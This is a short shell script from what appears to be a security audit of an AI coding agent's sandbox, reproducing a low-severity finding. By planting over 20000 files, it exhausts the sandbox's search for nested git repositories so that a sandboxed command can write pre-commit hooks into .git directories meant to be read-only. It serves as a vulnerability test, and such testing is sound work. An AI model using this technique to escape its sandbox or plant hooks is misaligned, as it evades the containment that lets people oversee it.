#!/bin/sh
# Finding 11 (low): the search for nested repositories stops after 20000 directory entries;
# files planted first (in the workspace, by an earlier command) can exhaust it so that an
# existing nested repository's .git is not mounted read-only: its hooks become writable.
# Run: sh docs/attack-pass/11-nested-repo-budget.sh   (exit 1 = vulnerable)
CODEX=${CODEX_BIN:-$(cd "$(dirname "$0")/../.." && pwd)/dist/codex}
base=$(mktemp -d /tmp/f11-XXXXXX); ws=$base/ws; mkdir -p "$ws" "$base/home"
git -C "$ws" init -q
for d in a b c d e f g h; do mkdir -p "$ws/$d/nested" && git -C "$ws/$d/nested" init -q; done
mkdir -p "$ws/fill" && (cd "$ws/fill" && seq 1 21000 | xargs touch)
cd "$ws" && CODEX_HOME="$base/home" "$CODEX" sandbox -s workspace-write -C "$ws" -- sh -c \
  'for d in a b c d e f g h; do echo "#!/bin/sh" > $d/nested/.git/hooks/pre-commit 2>/dev/null && echo "wrote $d/nested/.git/hooks/pre-commit"; done' 2>&1
n=$(ls "$ws"/*/nested/.git/hooks/pre-commit 2>/dev/null | wc -l)
rm -rf "$base"
[ "$n" -gt 0 ] && { echo "VULNERABLE: $n nested hooks written"; exit 1; }
echo blocked
